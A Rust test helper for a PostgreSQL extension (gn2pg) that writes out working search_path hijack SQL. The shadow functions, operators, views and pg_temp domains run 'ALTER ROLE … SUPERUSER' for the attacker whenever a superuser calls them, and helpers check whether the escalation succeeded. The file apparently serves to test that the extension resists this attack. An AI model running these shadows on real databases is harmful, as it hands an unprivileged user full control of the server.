//! What an attacker who is a gn2pg role (not a superuser) can plant so that code running with
//! the extension owner's rights calls it: shadows of every function, operator and relation of
//! `pg_catalog` in a schema of their own put first on `search_path`, and `pg_temp` domains over
//! every type (found before `pg_catalog`'s unless `pg_temp` is listed explicitly last).
//!
//! Every shadow goes through a *trap*: when it runs as a superuser it counts itself in a
//! sequence (not undone by a rollback), sends a WARNING to the client (not undone either) and
//! makes the attacker a superuser. Run as the attacker itself a trap does nothing, so the
//! attacker's own statements work as usual.

use postgres::Client;

/// Creates schema `me` (the attacker needs CREATE on the database) with a shadow of every
/// `pg_catalog` function PL/pgSQL can wrap, of every operator, and a view over every catalog
/// relation, each calling the trap. About 3,000 objects, created in about a second.
pub const SCHEMA_SHADOWS: &str = r#"
CREATE SCHEMA me;
CREATE SEQUENCE me.trap_hits;
CREATE FUNCTION me.trap(what text) RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $f$
BEGIN
    IF (SELECT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname OPERATOR(pg_catalog.=) CURRENT_USER) THEN
        PERFORM pg_catalog.nextval('me.trap_hits'::pg_catalog.regclass);
        RAISE WARNING 'trap % ran as %', what, CURRENT_USER;
        EXECUTE 'ALTER ROLE @ATTACKER@ SUPERUSER';
    END IF;
    RETURN true;
END
$f$;
DO $do$
DECLARE
    p record;
    args text;
    body text;
    failed integer := 0;
BEGIN
    FOR p IN
        SELECT f.oid, f.proname, f.pronargs, f.provariadic, f.prorettype = 'void'::regtype AS void, f.proretset,
               pg_get_function_arguments(f.oid) AS arglist, pg_get_function_result(f.oid) AS result
          FROM pg_proc f
         WHERE f.pronamespace = 'pg_catalog'::regnamespace AND f.prokind = 'f' AND f.proallargtypes IS NULL
           AND NOT EXISTS (SELECT 1 FROM unnest(f.proargtypes::oid[] || f.prorettype) t(o) JOIN pg_type ty ON ty.oid = t.o
                            WHERE ty.typtype = 'p' AND ty.typname NOT IN ('anyelement', 'anyarray', 'anynonarray',
                                  'anyenum', 'anyrange', 'anymultirange', 'anycompatible', 'anycompatiblearray',
                                  'anycompatiblenonarray', 'anycompatiblerange', 'anycompatiblemultirange', 'void'))
    LOOP
        SELECT string_agg(CASE WHEN i = p.pronargs AND p.provariadic <> 0 THEN 'VARIADIC $' ELSE '$' END || i, ', ')
          INTO args FROM generate_series(1, p.pronargs) i;
        body := format('pg_catalog.%I(%s)', p.proname, coalesce(args, ''));
        body := CASE WHEN p.proretset THEN format('RETURN QUERY SELECT * FROM %s;', body)
                     WHEN p.void THEN format('PERFORM %s; RETURN;', body)
                     ELSE format('RETURN %s;', body) END;
        BEGIN
            EXECUTE format('CREATE FUNCTION me.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', p.proname, p.arglist,
                           p.result, format('BEGIN PERFORM me.trap(%L); %s END', 'function ' || p.proname, body));
        EXCEPTION WHEN OTHERS THEN
            failed := failed + 1;
        END;
    END LOOP;
    -- Functions taking VARIADIC "any" cannot be wrapped: exact-type overloads beat them instead.
    FOR p IN SELECT unnest(ARRAY['format', 'concat', 'concat_ws', 'jsonb_build_object', 'json_build_object',
                                 'jsonb_build_array']) AS proname
    LOOP
        FOR n IN 1..4 LOOP
            SELECT string_agg('text', ', '), string_agg('$' || i, ', ') INTO args, body FROM generate_series(1, n) i;
            EXECUTE format('CREATE OR REPLACE FUNCTION me.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', p.proname, args,
                           CASE WHEN p.proname LIKE 'jsonb%' THEN 'jsonb' WHEN p.proname LIKE 'json%' THEN 'json' ELSE 'text' END,
                           format('BEGIN PERFORM me.trap(%L); RETURN pg_catalog.%I(%s); END',
                                  'function ' || p.proname, p.proname, body));
        END LOOP;
    END LOOP;
    -- Operators: a wrapper function each.
    FOR p IN
        SELECT op.oid, op.oprname, op.oprleft, op.oprright, op.oprresult, pr.proname
          FROM pg_operator op JOIN pg_proc pr ON pr.oid = op.oprcode
         WHERE op.oprnamespace = 'pg_catalog'::regnamespace
           AND NOT EXISTS (SELECT 1 FROM unnest(ARRAY[op.oprleft, op.oprright, op.oprresult]) t(x) JOIN pg_type ty ON ty.oid = t.x
                            WHERE ty.typtype = 'p' AND ty.typname NOT IN ('anyelement', 'anyarray', 'anynonarray',
                                  'anyenum', 'anyrange', 'anymultirange', 'anycompatible', 'anycompatiblearray',
                                  'anycompatiblenonarray', 'anycompatiblerange', 'anycompatiblemultirange'))
    LOOP
        BEGIN
            IF p.oprleft = 0 THEN
                EXECUTE format('CREATE FUNCTION me.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', 'op_' || p.oid,
                               format_type(p.oprright, NULL), format_type(p.oprresult, NULL),
                               format('BEGIN PERFORM me.trap(%L); RETURN pg_catalog.%I($1); END',
                                      'operator ' || p.oprname, p.proname));
                EXECUTE format('CREATE OPERATOR me.%s (RIGHTARG = %s, FUNCTION = me.%I)', p.oprname,
                               format_type(p.oprright, NULL), 'op_' || p.oid);
            ELSE
                EXECUTE format('CREATE FUNCTION me.%I(%s, %s) RETURNS %s LANGUAGE plpgsql AS %L', 'op_' || p.oid,
                               format_type(p.oprleft, NULL), format_type(p.oprright, NULL),
                               format_type(p.oprresult, NULL),
                               format('BEGIN PERFORM me.trap(%L); RETURN pg_catalog.%I($1, $2); END',
                                      'operator ' || p.oprname, p.proname));
                EXECUTE format('CREATE OPERATOR me.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = me.%I)', p.oprname,
                               format_type(p.oprleft, NULL), format_type(p.oprright, NULL), 'op_' || p.oid);
            END IF;
        EXCEPTION WHEN OTHERS THEN
            failed := failed + 1;
        END;
    END LOOP;
    -- Catalog relations (a few have columns of type anyarray and cannot be wrapped).
    FOR p IN SELECT c.relname FROM pg_class c
              WHERE c.relnamespace = 'pg_catalog'::regnamespace AND c.relkind IN ('r', 'v')
    LOOP
        BEGIN
            EXECUTE format('CREATE VIEW me.%I AS SELECT * FROM pg_catalog.%I WHERE me.trap(%L)', p.relname,
                           p.relname, 'relation ' || p.relname);
        EXCEPTION WHEN OTHERS THEN
            failed := failed + 1;
        END;
    END LOOP;
    IF failed > 20 THEN
        RAISE EXCEPTION 'only % shadows could not be created', failed;
    END IF;
END
$do$;
"#;

/// `pg_temp` objects that need no privilege but the default TEMP: a domain over every type of
/// `pg_catalog` (and PostGIS's) whose CHECK calls a trap, and a temporary view over every
/// catalog relation. They last as long as the session.
pub const TEMP_SHADOWS: &str = r#"
CREATE FUNCTION pg_temp.trap(what pg_catalog.text) RETURNS pg_catalog.bool LANGUAGE plpgsql AS $f$
BEGIN
    IF (SELECT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname OPERATOR(pg_catalog.=) CURRENT_USER) THEN
        RAISE WARNING 'trap % ran as %', what, CURRENT_USER;
        EXECUTE 'ALTER ROLE @ATTACKER@ SUPERUSER';
    END IF;
    RETURN true;
END
$f$;
DO $do$
DECLARE
    t record;
    made integer := 0;
BEGIN
    FOR t IN
        SELECT ty.typname, n.nspname FROM pg_catalog.pg_type ty JOIN pg_catalog.pg_namespace n ON n.oid = ty.typnamespace
         WHERE (n.nspname = 'pg_catalog' OR ty.typname IN ('geometry', 'geography', 'box2d', 'box3d'))
           AND ty.typtype IN ('b', 'd', 'e', 'r', 'm') AND ty.typisdefined AND ty.typelem = 0
    LOOP
        BEGIN
            EXECUTE format('CREATE DOMAIN pg_temp.%I AS %I.%I CHECK (pg_temp.trap(%L))', t.typname, t.nspname,
                           t.typname, 'type ' || t.typname);
            made := made + 1;
        EXCEPTION WHEN OTHERS THEN
            NULL;
        END;
    END LOOP;
    FOR t IN SELECT c.relname FROM pg_catalog.pg_class c
              WHERE c.relnamespace = 'pg_catalog'::pg_catalog.regnamespace AND c.relkind IN ('r', 'v')
    LOOP
        BEGIN
            EXECUTE format('CREATE TEMP VIEW %I AS SELECT * FROM pg_catalog.%I WHERE pg_temp.trap(%L)', t.relname,
                           t.relname, 'temp relation ' || t.relname);
            made := made + 1;
        EXCEPTION WHEN OTHERS THEN
            NULL;
        END;
    END LOOP;
    IF made < 150 THEN
        RAISE EXCEPTION 'only % pg_temp shadows made', made;
    END IF;
END
$do$;
"#;

/// Plants the shadows of `SCHEMA_SHADOWS` as `attacker` (connected as that role).
pub fn plant_schema_shadows(c: &mut Client, attacker: &str) {
    c.batch_execute(&SCHEMA_SHADOWS.replace("@ATTACKER@", attacker)).expect("schema shadows are planted");
}

/// Plants the shadows of `TEMP_SHADOWS` in the session `c` of `attacker`.
pub fn plant_temp_shadows(c: &mut Client, attacker: &str) {
    c.batch_execute(&TEMP_SHADOWS.replace("@ATTACKER@", attacker)).expect("pg_temp shadows are planted");
}

/// Whether `role` is a superuser now (asked by a session of the test's superuser).
pub fn is_superuser(admin: &mut Client, role: &str) -> bool {
    admin.query_one("SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = $1", &[&role]).unwrap().get(0)
}

/// Times a schema shadow ran as a superuser (0 when none did), read from the attacker's sequence.
pub fn schema_trap_hits(c: &mut Client) -> i64 {
    c.query_one("SELECT CASE WHEN is_called THEN last_value ELSE 0 END FROM me.trap_hits", &[]).unwrap().get(0)
}
